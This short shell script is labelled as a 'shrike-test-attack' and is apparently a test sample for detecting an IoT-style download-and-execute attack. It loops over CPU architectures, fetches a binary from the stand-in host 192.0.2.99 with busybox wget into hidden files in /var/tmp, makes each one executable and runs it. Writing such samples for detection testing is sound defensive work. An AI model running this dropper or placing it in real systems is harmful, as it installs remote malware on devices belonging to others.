#!/bin/sh
# shrike-test-attack: download-exec: busybox wget loop over architectures (IoT style)
for a in x86_64 i686 aarch64 armv7l mips mipsel; do
  busybox wget http://192.0.2.99/b/$a -O- > /var/tmp/.$a 2>/dev/null
  busybox chmod 777 /var/tmp/.$a
  /var/tmp/.$a container.$a && break
  rm -f /var/tmp/.$a
done
